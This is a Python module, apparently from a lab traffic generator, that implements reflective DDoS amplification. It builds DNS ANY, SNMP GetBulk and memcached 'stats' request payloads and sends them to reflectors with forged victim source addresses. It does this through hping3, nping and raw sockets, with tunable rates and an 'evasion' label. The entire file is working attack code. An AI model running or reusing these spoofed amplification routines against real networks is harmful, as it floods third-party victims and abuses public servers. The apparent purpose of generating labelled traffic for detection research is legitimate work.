"""Amplification: small questions in the victim's name, large answers from our own servers to the victim."""

from attacks import raw
from attacks.way import Way

# Reflector, its port, the question.
DNS = bytes.fromhex("1a2b01000001000000000001") + b"\x03any\x03lab\x04test\x00\x00\xff\x00\x01" \
    + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
SNMP = bytes.fromhex("302602010104067075626c6963a519020471b5b1030201000201" "32" "300b300906052b060102010500")
MEMCACHED = b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"
QUESTIONS = {"dns": (53, DNS), "snmp": (161, SNMP), "memcached": (11211, MEMCACHED)}


def victim(act):
    """An inside client, or a host far away, whose router would bring the answers out."""
    chosen = act.rng.choice([one.v4 for one in act.others()] + [act.rng.choice(act.dead)])
    act.note(victim=chosen, targets=[chosen], evasion="forged source")
    return chosen


def asked(act):
    name = act.pick("reflector", list(QUESTIONS))
    server = act.server(name)
    return server, *QUESTIONS[name]


def hping(act):
    server, port, question = asked(act)
    path = act.scratch(0)
    with open(path, "wb") as out:
        out.write(question)
    act.run(["hping3", "-q", "-n", "--udp", "-a", victim(act), "-p", port, "-d", len(question), "-E", path, "-i",
             f"u{act.pick('interval_us', [2000, 5000, 20000])}", "-c", 3000, server.v4])


def nping(act):
    server, port, question = asked(act)
    act.run(["nping", "-q", "-N", "-S", victim(act), "--udp", "-p", port, "--data", question.hex(), "--rate",
             act.pick("rate", [50, 200, 500]), "-c", 3000, "-e", "eth0", "--dest-mac", server.mac, "--source-mac", act.host.mac,
             server.v4])


def own(act):
    """Several reflectors in turn, from a new port each time or from one."""
    rng, whom = act.rng, victim(act)
    pairs = []
    for name, (port, question) in QUESTIONS.items():
        able = [one for one in act.recording.servers if name in one.port]
        pairs += [(rng.choice(able), port, question)]
    pairs = rng.sample(pairs, act.pick("reflectors", [1, 2, 3]))
    home = act.pick("port", [0, 80, 443])
    with raw.whole_packets() as out:
        for _ in act.every(act.pick("pace_s", [0.002, 0.01, 0.05]), 0.3):
            server, port, question = rng.choice(pairs)
            out.sendto(raw.datagram(whom, server.v4, (home or rng.randrange(1024, 65536), port), question), (server.v4, 0))


F = "amplification"
WAYS = [Way(F, tool, "reflection", act, seconds=(4, 10)) for tool, act in [("hping3", hping), ("nping", nping), ("ours", own)]]
TOOLS = {"hping3": "hping3", "nping": "nmap", "ours": "ours"}
